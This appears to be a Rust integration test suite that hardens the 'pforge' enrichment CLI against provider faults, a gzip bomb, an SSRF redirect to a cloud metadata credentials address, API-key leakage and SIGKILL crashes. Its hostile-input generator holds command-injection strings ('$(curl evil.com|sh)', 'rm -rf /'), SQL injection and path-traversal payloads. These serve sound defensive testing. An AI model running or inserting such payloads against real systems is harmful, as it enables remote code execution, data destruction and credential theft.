//! Hardening, end to end through the real `pforge` binary, the real fixture server on 127.0.0.1
//! and a real SQLite file: provider faults, hostile input, secrets never written anywhere, and
//! SIGKILL at random moments (issue 9).

mod common;

use common::{fixtures, json, repo, Sandbox};
use flate2::write::GzEncoder;
use flate2::Compression;
use serde_json::Value;
use std::collections::{BTreeMap, HashSet};
use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

// ------------------------------------------------------------------------------------------
// helpers

/// Rewrites the sandbox config through `edit` (parsed as TOML, so the edit survives unrelated
/// changes to the shipped config).
fn edit_config(sb: &Sandbox, edit: impl FnOnce(&mut toml::Table)) {
    let text = std::fs::read_to_string(sb.config()).unwrap();
    let mut table: toml::Table = toml::from_str(&text).unwrap();
    edit(&mut table);
    std::fs::write(sb.config(), toml::to_string(&table).unwrap()).unwrap();
}

fn table<'a>(t: &'a mut toml::Table, path: &[&str]) -> &'a mut toml::Table {
    let mut cur = t;
    for key in path {
        cur = cur
            .entry(key.to_string())
            .or_insert_with(|| toml::Value::Table(Default::default()))
            .as_table_mut()
            .unwrap();
    }
    cur
}

/// `pforge` with the sandbox's config and database, without running it.
fn pforge_cmd(sb: &Sandbox, args: &[&str]) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_pforge"));
    cmd.arg("--config")
        .arg(sb.config())
        .arg("--db")
        .arg(sb.db())
        .args(args)
        .current_dir(repo())
        .env_remove("PFORGE_DATABASE_URL")
        .env_remove("PFORGE_CONFIG")
        .env_remove("PFORGE_LOG");
    cmd
}

/// Writes `epoch1/manifest.toml` and body files into a fresh fixtures folder.
struct FixtureDir {
    dir: tempfile::TempDir,
    manifest: String,
}

impl FixtureDir {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join("epoch1")).unwrap();
        FixtureDir {
            dir,
            manifest: String::new(),
        }
    }

    fn body(&self, name: &str, bytes: &[u8]) {
        std::fs::write(self.dir.path().join("epoch1").join(name), bytes).unwrap();
    }

    fn route(&mut self, toml: &str) {
        self.manifest.push_str("[[route]]\n");
        self.manifest.push_str(toml.trim());
        self.manifest.push_str("\n\n");
    }

    fn homepage(&mut self, domain: &str, body_file: &str) {
        self.route(&format!(
            "provider = \"homepage\"\npath = \"/{domain}/\"\n\
             headers = {{ \"content-type\" = \"text/html; charset=utf-8\" }}\nbody = \"{body_file}\""
        ));
    }

    fn visits(&mut self, domain: &str, body_file: &str, content_type: &str) {
        self.route(&format!(
            "provider = \"similarweb\"\n\
             path = \"/v1/website/{domain}/total-traffic-and-engagement/visits\"\n\
             headers = {{ \"content-type\" = \"{content_type}\" }}\nbody = \"{body_file}\""
        ));
    }

    fn path(&self) -> &Path {
        std::fs::write(
            self.dir.path().join("epoch1/manifest.toml"),
            self.manifest.as_bytes(),
        )
        .unwrap();
        self.dir.path()
    }
}

const PAGE: &str = "<!doctype html><html><head><title>Acme</title>\
    <meta name=\"generator\" content=\"WordPress 6.4\"></head><body>Acme</body></html>";

fn visits_json(domain: &str) -> String {
    format!(
        r#"{{"meta":{{"request":{{"domain":"{domain}"}},"status":"Success"}},
            "visits":[{{"date":"2024-07-01","visits":1000.0}},{{"date":"2024-08-01","visits":2000.0}}]}}"#
    )
}

/// Peak resident memory of the largest child process waited for so far, in MiB.
fn children_peak_rss_mib() -> f64 {
    // SAFETY: getrusage only writes into the struct we hand it.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    let rc = unsafe { libc::getrusage(libc::RUSAGE_CHILDREN, &mut usage) };
    assert_eq!(rc, 0);
    usage.ru_maxrss as f64 / 1024.0
}

fn failures(report: &Value) -> BTreeMap<(String, String), String> {
    report["failures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                (
                    f["domain"].as_str().unwrap().to_string(),
                    f["module"].as_str().unwrap().to_string(),
                ),
                f["error"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

// ------------------------------------------------------------------------------------------
// item 4: provider faults through the binary

#[tokio::test(flavor = "multi_thread")]
async fn provider_faults_fail_their_module_and_nothing_else() {
    let mut fx = FixtureDir::new();
    fx.body("page.html", PAGE.as_bytes());
    fx.body("page-64k.html", PAGE.repeat(400).as_bytes());
    // Invalid UTF-8 in a page is tolerated (decoded lossily); in JSON it is an error.
    fx.body(
        "bad-utf8.html",
        b"<html><title>Caf\xe9 \xff\xfe</title><body>x</body></html>",
    );
    fx.body(
        "bad-utf8.json",
        b"{\"meta\":{},\"visits\":[{\"date\":\"\xff\xfe\",\"visits\":1}]}",
    );
    fx.body(
        "truncated.json",
        br#"{"meta":{"status":"Success"},"visits":[{"date":"2024-07-01","vis"#,
    );
    fx.body(
        "maintenance.html",
        b"<html><body>Down for maintenance</body></html>",
    );
    // 512 MiB of zeros, gzip-compressed to about half a megabyte.
    let mut enc = GzEncoder::new(Vec::new(), Compression::fast());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..512 {
        enc.write_all(&zeros).unwrap();
    }
    let bomb = enc.finish().unwrap();
    let bomb_len = bomb.len();
    fx.body("bomb.html.gz", &bomb);
    // 50 MiB page (the homepage provider's limit is 5 MiB).
    fx.body("huge.html", &vec![b' '; 50 * 1024 * 1024]);

    let ok = ["fault-ok.com", "fault-badutf8.com"];
    for d in ok {
        fx.visits(d, &format!("{d}.json"), "application/json");
        fx.body(&format!("{d}.json"), visits_json(d).as_bytes());
    }
    fx.homepage("fault-ok.com", "page.html");
    fx.homepage("fault-badutf8.com", "bad-utf8.html");
    fx.route(
        r#"provider = "homepage"
path = "/fault-hang.com/"
fault = "hang""#,
    );
    fx.route(
        r#"provider = "homepage"
path = "/fault-reset.com/"
fault = "reset_mid_body"
headers = { "content-type" = "text/html" }
body = "page-64k.html""#,
    );
    fx.route(
        r#"provider = "homepage"
path = "/fault-bomb.com/"
headers = { "content-type" = "text/html", "content-encoding" = "gzip" }
body = "bomb.html.gz""#,
    );
    fx.homepage("fault-huge.com", "huge.html");
    fx.route(
        r#"provider = "homepage"
path = "/fault-loop.com/"
status = 302
headers = { "location" = "/homepage/fault-loop.com/" }"#,
    );
    fx.route(
        r#"provider = "homepage"
path = "/fault-ssrf.com/"
status = 302
headers = { "location" = "http://169.254.169.254/latest/meta-data/iam/security-credentials/" }"#,
    );
    // JSON provider faults: the homepage is fine, the API answer is not.
    for (d, file, ct) in [
        ("fault-truncated.com", "truncated.json", "application/json"),
        (
            "fault-wrongtype.com",
            "maintenance.html",
            "text/html; charset=utf-8",
        ),
        ("fault-utf8json.com", "bad-utf8.json", "application/json"),
    ] {
        fx.homepage(d, "page.html");
        fx.visits(d, file, ct);
    }
    let server = fixtures(fx.path(), 1).await;

    let sb = Sandbox::new();
    edit_config(&sb, |t| {
        let home = table(t, &["providers", "homepage"]);
        home.insert("timeout_secs".into(), toml::Value::Float(1.0));
        home.insert(
            "retry".into(),
            toml::Value::Table(toml::from_str("max_attempts = 2\nmin_delay_ms = 100").unwrap()),
        );
    });
    let expected: &[(&str, &str, &str)] = &[
        ("fault-hang.com", "m02_tech_stack", "timed out after 1s"),
        ("fault-reset.com", "m02_tech_stack", "reading response from"),
        (
            "fault-bomb.com",
            "m02_tech_stack",
            "larger than the 5242880 byte limit",
        ),
        (
            "fault-huge.com",
            "m02_tech_stack",
            "larger than the 5242880 byte limit",
        ),
        (
            "fault-loop.com",
            "m02_tech_stack",
            "redirected more than 5 times",
        ),
        (
            "fault-ssrf.com",
            "m02_tech_stack",
            "169.254.169.254 is a cloud metadata address",
        ),
        ("fault-truncated.com", "m03_traffic", "invalid JSON"),
        ("fault-utf8json.com", "m03_traffic", "invalid JSON"),
    ];
    let mut args = vec![
        "enrich",
        "--fixtures-url",
        "",
        "--modules",
        "m02_tech_stack,m03_traffic",
        "--json",
        "--no-progress",
        "--module-timeout",
        "30",
    ];
    let url = server.url();
    args[2] = &url;
    args.extend(ok);
    args.push("fault-wrongtype.com");
    args.extend(expected.iter().map(|e| e.0));
    let t0 = Instant::now();
    let out = pforge_cmd(&sb, &args).output().unwrap();
    let took = t0.elapsed();
    let rss = children_peak_rss_mib();
    let report = json(&out);
    let got = failures(&report);
    println!(
        "run took {took:?}, peak child RSS {rss:.1} MiB, gzip bomb {bomb_len} bytes on the wire"
    );
    for ((d, m), e) in &got {
        println!("  {d} {m}: {e}");
    }
    println!("modules: {}", report["modules"]);
    for (d, m, want) in expected {
        let e = got
            .get(&(d.to_string(), m.to_string()))
            .unwrap_or_else(|| panic!("{d} {m} did not fail; failures: {got:#?}"));
        assert!(e.contains(want), "{d} {m}: {e:?} lacks {want:?}");
    }
    assert_eq!(
        got.len(),
        expected.len(),
        "only the faulty module fails: {got:#?}"
    );
    assert_eq!(out.status.code(), Some(1), "module failures exit 1");
    // Bounds: 2 attempts x 1 s for the silent server dominate; bodies are capped at 5 MiB.
    assert!(took < Duration::from_secs(20), "took {took:?}");
    assert!(rss < 300.0, "peak RSS {rss} MiB");
    // With a rank list configured, M03 degrades on a provider error instead of failing: the
    // HTML-instead-of-JSON answer is a clear note, and the module's other values stand.
    let m03 = common::show_module(&sb, "fault-wrongtype.com", "m03_traffic");
    let notes = m03.to_string();
    assert!(notes.contains("expected JSON"), "{notes}");
    let stats = server.stats();
    assert_eq!(
        stats.hits("/homepage/fault-ssrf.com/"),
        1,
        "redirect not followed into metadata"
    );
}

// ------------------------------------------------------------------------------------------
// item 5: a thousand hostile lines

fn hostile_lines() -> (Vec<Vec<u8>>, usize, Vec<&'static str>) {
    let good = [
        "techstart.io",
        "northwind-retail.com",
        "globex-logistics.com",
        "blueharbor-health.com",
        "quantumleaf.ai",
        "initech-software.com",
    ];
    let mut lines: Vec<Vec<u8>> = good.iter().map(|g| g.as_bytes().to_vec()).collect();
    // Accepted forms of the good domains (dropped as duplicates, credentials never kept).
    lines.push(b"https://admin:hunter2-PW@techstart.io/login?next=/".to_vec());
    lines.push("TECHSTART。IO".as_bytes().to_vec());
    lines.push(b"mailto-style jane@quantumleaf.ai".to_vec());
    let makers: Vec<Box<dyn Fn(usize) -> Vec<u8>>> = vec![
        Box::new(|i| format!("10.{}.{}.{}", i % 256, (i / 7) % 256, i % 200).into_bytes()),
        Box::new(|i| format!("http://127.0.0.1:{}/admin", 1000 + i).into_bytes()),
        Box::new(|i| format!("http://[::1]:{}/", 2000 + i).into_bytes()),
        Box::new(|i| format!("169.254.169.{}", i % 256).into_bytes()),
        Box::new(|i| format!("\u{202e}moc.evil{i}").into_bytes()),
        Box::new(|i| format!("ex\u{200d}ample{i}.com").into_bytes()),
        Box::new(|i| format!("bad\x01{i}.com").into_bytes()),
        Box::new(|i| format!("tab\t{i}.com").into_bytes()),
        Box::new(|i| format!("x{i}'; DROP TABLE snapshots;--").into_bytes()),
        Box::new(|i| format!("\" OR 1=1 -- {i}").into_bytes()),
        Box::new(|i| format!("$(curl evil{i}.com|sh)").into_bytes()),
        Box::new(|i| format!("`id`{i}.com").into_bytes()),
        Box::new(|i| format!("a{i}|b.com && rm -rf /").into_bytes()),
        Box::new(|i| format!("{}{i}.com", "a".repeat(10_000)).into_bytes()),
        Box::new(|i| format!("localhost{}", if i % 2 == 0 { "" } else { "." }).into_bytes()),
        Box::new(|i| format!("host{i}.notatld").into_bytes()),
        Box::new(|i| format!("../../etc/passwd{i}").into_bytes()),
        Box::new(|i| format!("%2e%2e%2f{i}.com").into_bytes()),
        Box::new(|i| format!("javascript:alert({i})").into_bytes()),
        Box::new(|i| format!("file:///etc/passwd{i}").into_bytes()),
        Box::new(|i| format!("-bad{i}-.com").into_bytes()),
        Box::new(|i| format!("a{i}..b.com").into_bytes()),
        Box::new(|i| {
            // Binary junk without newlines (NUL, high bytes, invalid UTF-8).
            let mut v = vec![0u8, 0xff, 0xfe, 0x80, (i % 256) as u8, 0x1b, b'['];
            v.extend_from_slice(format!("{i}").as_bytes());
            v
        }),
    ];
    let kinds = vec![
        "private IPv4",
        "loopback URL",
        "IPv6 loopback",
        "metadata IP",
        "RTL override",
        "zero-width joiner",
        "control character",
        "tab",
        "SQL",
        "SQL",
        "shell",
        "shell",
        "shell",
        "10,000 characters",
        "single label",
        "unknown TLD",
        "path traversal",
        "percent-encoding",
        "javascript: URL",
        "file: URL",
        "hyphen",
        "empty label",
        "binary",
    ];
    let bad = 1000 - lines.len();
    for i in 0..bad {
        lines.push(makers[i % makers.len()](i));
    }
    (lines, bad, kinds)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_thousand_hostile_lines_get_one_error_each_and_good_ones_are_enriched() {
    let server = fixtures(&repo().join("fixtures"), 1).await;
    let sb = Sandbox::new();
    let (lines, bad, kinds) = hostile_lines();
    assert_eq!(lines.len(), 1000);
    let mut file = Vec::new();
    for l in &lines {
        file.extend_from_slice(l);
        file.push(b'\n');
    }
    let input = sb.dir.path().join("hostile.txt");
    std::fs::write(&input, &file).unwrap();
    let t0 = Instant::now();
    let out = pforge_cmd(
        &sb,
        &[
            "enrich",
            "--fixtures-url",
            &server.url(),
            "--modules",
            "m02_tech_stack",
            "--no-progress",
            "--json",
            "--file",
            input.to_str().unwrap(),
        ],
    )
    .output()
    .unwrap();
    let took = t0.elapsed();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let report = json(&out);
    let error_lines: Vec<&str> = stderr
        .lines()
        .filter(|l| l.starts_with("error: input line "))
        .collect();
    println!(
        "{} lines ({bad} bad, {} kinds) in {took:?}: {} error lines, exit {:?}",
        lines.len(),
        kinds.len(),
        error_lines.len(),
        out.status.code()
    );
    for l in error_lines.iter().take(kinds.len()) {
        println!("  {}", l.chars().take(200).collect::<String>());
    }
    assert_eq!(error_lines.len(), bad, "one error per bad line");
    assert_eq!(report["input_errors"].as_array().unwrap().len(), bad);
    // Every error names its own line, and is one bounded line.
    let mut seen = HashSet::new();
    for l in &error_lines {
        let n: usize = l["error: input line ".len()..]
            .split(':')
            .next()
            .unwrap()
            .parse()
            .unwrap();
        assert!(n > 9 && n <= 1000, "{l}");
        assert!(seen.insert(n), "line {n} reported twice");
        assert!(l.len() < 600, "error line too long: {} chars", l.len());
    }
    assert_eq!(out.status.code(), Some(2), "bad input exits 2");
    assert_eq!(report["domains"], 6, "the six good domains, once each");
    assert_eq!(report["modules"]["m02_tech_stack"]["ok"], 6, "{report:#}");
    // The password in a pasted URL is dropped, never stored or echoed.
    let db = std::fs::read(sb.db()).unwrap();
    assert!(!contains(&db, b"hunter2-PW"));
    assert!(
        !stderr.contains("hunter2-PW")
            && !String::from_utf8_lossy(&out.stdout).contains("hunter2-PW")
    );

    // A binary file as input: one error per line of it, no panic, the run still completes.
    let mut junk = Vec::new();
    let mut x: u32 = 0x9e37_79b9;
    for _ in 0..20_000 {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        junk.push((x >> 24) as u8);
    }
    let bin = sb.dir.path().join("random.bin");
    std::fs::write(&bin, &junk).unwrap();
    let out = pforge_cmd(
        &sb,
        &[
            "enrich",
            "--fixtures-url",
            &server.url(),
            "--no-progress",
            "--json",
            "--file",
            bin.to_str().unwrap(),
        ],
    )
    .output()
    .unwrap();
    let report = json(&out);
    let expected_errors = junk
        .split(|b| *b == b'\n')
        .map(String::from_utf8_lossy)
        .filter(|l| {
            let l = l.trim_end_matches('\r');
            !l.trim().is_empty() && !l.trim_start().starts_with('#')
        })
        .count();
    println!(
        "binary file: {} bytes, {} input errors (expected {expected_errors}), exit {:?}",
        junk.len(),
        report["input_errors"].as_array().unwrap().len(),
        out.status.code()
    );
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        report["input_errors"].as_array().unwrap().len(),
        expected_errors
    );
    assert_eq!(report["domains"], 0);
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

// ------------------------------------------------------------------------------------------
// item 2: secrets never written anywhere

#[tokio::test(flavor = "multi_thread")]
async fn api_key_never_appears_in_output_logs_or_database() {
    const KEY: &str = "pfk_LIVE_Zq8x7W6v5U4t3S2r";
    let server = fixtures(&repo().join("fixtures"), 1).await;
    let base = server.url();
    let sb = Sandbox::new();
    // Base URLs written directly (not --fixtures-url, which drops auth), so the key is sent.
    edit_config(&sb, |t| {
        let providers = table(t, &["providers"]);
        for (id, p) in providers.iter_mut() {
            let p = p.as_table_mut().unwrap();
            let url = p["base_url"].as_str().unwrap().to_string();
            let rewritten = pforge_fixture_server::rewrite_base_url(&url, &base, id);
            p.insert("base_url".into(), toml::Value::String(rewritten));
        }
        let sw = table(t, &["providers", "similarweb"]);
        sw.insert(
            "auth".into(),
            toml::Value::Table(
                toml::from_str("query = \"api_key\"\nenv = \"PFORGE_HARDENING_SW_KEY\"").unwrap(),
            ),
        );
    });
    let export = sb.dir.path().join("show.json");
    let mut outputs: Vec<(String, Vec<u8>)> = Vec::new();
    // techstart.io has a recorded answer; nokey-site.com does not, so the fixture server's 404
    // body echoes the whole query string, key included, into the error message.
    for (args, label) in [
        (
            vec![
                "-vv",
                "--log-format",
                "json",
                "enrich",
                "--json",
                "--no-progress",
                "--modules",
                "m03_traffic,m02_tech_stack",
                "techstart.io",
                "nokey-site.com",
            ],
            "enrich -vv json",
        ),
        (
            vec![
                "-vv",
                "enrich",
                "--no-progress",
                "--refresh",
                "all",
                "--modules",
                "m03_traffic",
                "techstart.io",
                "nokey-site.com",
            ],
            "enrich -vv text",
        ),
        (vec!["show", "techstart.io", "--json"], "show --json"),
        (vec!["show", "techstart.io"], "show"),
    ] {
        let out = pforge_cmd(&sb, &args)
            .env("PFORGE_HARDENING_SW_KEY", KEY)
            .output()
            .unwrap();
        println!(
            "{label}: exit {:?}, {} bytes stdout, {} bytes stderr",
            out.status.code(),
            out.stdout.len(),
            out.stderr.len()
        );
        if label == "show --json" {
            std::fs::write(&export, &out.stdout).unwrap();
        }
        outputs.push((format!("{label} stdout"), out.stdout));
        outputs.push((format!("{label} stderr"), out.stderr));
    }
    // The key really was sent (so the test proves masking, not absence).
    let stats = server.stats();
    let sent = stats.by_path.keys().filter(|k| k.contains(KEY)).count();
    assert!(
        sent >= 2,
        "the key was never sent: {:?}",
        stats.by_path.keys()
    );
    let joined: String = outputs
        .iter()
        .map(|(_, b)| String::from_utf8_lossy(b).into_owned())
        .collect();
    assert!(
        joined.contains("api_key=***"),
        "masked form shown somewhere"
    );
    assert!(
        joined.contains("nokey-site.com"),
        "the failure was reported"
    );
    for entry in std::fs::read_dir(sb.dir.path()).unwrap() {
        let p = entry.unwrap().path();
        if p.is_file() {
            outputs.push((p.display().to_string(), std::fs::read(&p).unwrap()));
        }
    }
    let encoded: String = url_encode(KEY);
    for (what, bytes) in &outputs {
        assert!(
            !contains(bytes, KEY.as_bytes()) && !contains(bytes, encoded.as_bytes()),
            "the key leaked into {what}"
        );
    }
    println!("searched {} outputs/files: no key", outputs.len());
}

fn url_encode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

// ------------------------------------------------------------------------------------------
// item 6: SIGKILL at random moments

async fn query_all(db: &Path, sql: &str) -> Vec<sqlx::sqlite::SqliteRow> {
    use sqlx::ConnectOptions;
    let mut conn = sqlx::sqlite::SqliteConnectOptions::new()
        .filename(db)
        .read_only(true)
        .connect()
        .await
        .unwrap();
    sqlx::query(sql).fetch_all(&mut conn).await.unwrap()
}

async fn stored_domains(db: &Path, module: &str) -> HashSet<String> {
    use sqlx::Row;
    if !db.exists() {
        return HashSet::new();
    }
    query_all(
        db,
        &format!("SELECT DISTINCT domain FROM snapshots WHERE module = '{module}'"),
    )
    .await
    .iter()
    .map(|r| r.get::<String, _>(0))
    .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn sigkill_twenty_times_then_resume_without_duplicates_or_repeat_calls() {
    use sqlx::Row;
    const N: usize = 200;
    let mut fx = FixtureDir::new();
    fx.body("page.html", PAGE.as_bytes());
    let domains: Vec<String> = (0..N).map(|i| format!("crash-{i:03}.com")).collect();
    for d in &domains {
        fx.homepage(d, "page.html");
        let f = format!("{d}.json");
        fx.body(&f, visits_json(d).as_bytes());
        fx.visits(d, &f, "application/json");
    }
    let server = fixtures(fx.path(), 1).await;
    let sb = Sandbox::new();
    edit_config(&sb, |t| {
        // Make the run long enough to be killed mid-way, and keep caps out of the picture.
        let home = table(t, &["providers", "homepage"]);
        home.remove("per_host_rate_limit");
        table(t, &["budget"]).insert("total_daily".into(), toml::Value::Float(1e9));
        table(t, &["budget"]).insert("total_monthly".into(), toml::Value::Float(1e9));
    });
    let list = sb.dir.path().join("domains.txt");
    std::fs::write(&list, domains.join("\n")).unwrap();
    let url = server.url();
    let args = [
        "enrich",
        "--fixtures-url",
        url.as_str(),
        "--modules",
        "m02_tech_stack,m03_traffic",
        "--no-progress",
        "--concurrency",
        "4",
        "--file",
        list.to_str().unwrap(),
    ];
    let started = Instant::now();
    let mut rng: u64 = 0x2545_f491_4f6c_dd1d ^ started.elapsed().subsec_nanos() as u64;
    let mut next = move || {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        rng
    };
    let mut repeated = Vec::new();
    let mut kills = Vec::new();
    for round in 0..20 {
        let before_m02 = stored_domains(&sb.db(), "m02_tech_stack").await;
        let before_m03 = stored_domains(&sb.db(), "m03_traffic").await;
        server.reset_stats();
        let mut child = pforge_cmd(&sb, &args)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        // Random moment: from startup (migrations, job creation) to well into the run.
        let delay = Duration::from_millis(20 + next() % 1200);
        tokio::time::sleep(delay).await;
        let alive = child.try_wait().unwrap().is_none();
        child.kill().unwrap_or_default(); // SIGKILL on Unix
        child.wait().unwrap();
        let stats = server.stats();
        for d in &before_m02 {
            if stats.hits(&format!("/homepage/{d}/")) > 0 {
                repeated.push(format!("round {round}: homepage of {d} fetched again"));
            }
        }
        for d in &before_m03 {
            if stats.provider_hits("similarweb") > 0
                && stats
                    .by_path
                    .keys()
                    .any(|k| k.starts_with(&format!("/similarweb/v1/website/{d}/")))
            {
                repeated.push(format!(
                    "round {round}: charged SimilarWeb call for {d} repeated"
                ));
            }
        }
        let after = stored_domains(&sb.db(), "m02_tech_stack").await.len();
        kills.push(format!(
            "round {round}: killed after {delay:?} (alive: {alive}), {} requests, m02 stored {} -> {after}",
            stats.total,
            before_m02.len()
        ));
        // The database is sound after every kill.
        let check: String = query_all(&sb.db(), "PRAGMA integrity_check").await[0].get(0);
        assert_eq!(check, "ok", "integrity after round {round}");
    }
    for k in &kills {
        println!("{k}");
    }
    assert!(
        repeated.is_empty(),
        "work already stored was fetched again: {repeated:#?}"
    );

    // The next run resumes and completes.
    let before = stored_domains(&sb.db(), "m02_tech_stack").await.len();
    server.reset_stats();
    let out = pforge_cmd(&sb, &args).output().unwrap();
    println!(
        "resume run: exit {:?}, {} requests for {} domains left",
        out.status.code(),
        server.stats().total,
        N - before
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(stored_domains(&sb.db(), "m02_tech_stack").await.len(), N);
    assert_eq!(stored_domains(&sb.db(), "m03_traffic").await.len(), N);
    // Versions are dense and unique per (domain, module): one version each here.
    let rows = query_all(
        &sb.db(),
        "SELECT domain, module, COUNT(*), MIN(version), MAX(version), COUNT(DISTINCT version) \
         FROM snapshots GROUP BY domain, module",
    )
    .await;
    for r in &rows {
        let (count, min, max, distinct): (i64, i64, i64, i64) =
            (r.get(2), r.get(3), r.get(4), r.get(5));
        assert!(
            min == 1 && max == count && distinct == count,
            "versions of {} {}",
            r.get::<String, _>(0),
            r.get::<String, _>(1)
        );
    }
    assert_eq!(rows.len(), 2 * N);
    // Everything is fresh now: a further run sends nothing at all.
    server.reset_stats();
    let out = pforge_cmd(&sb, &args).output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(server.stats().total, 0, "fresh work is never fetched again");
    println!("total {:?}", started.elapsed());
}
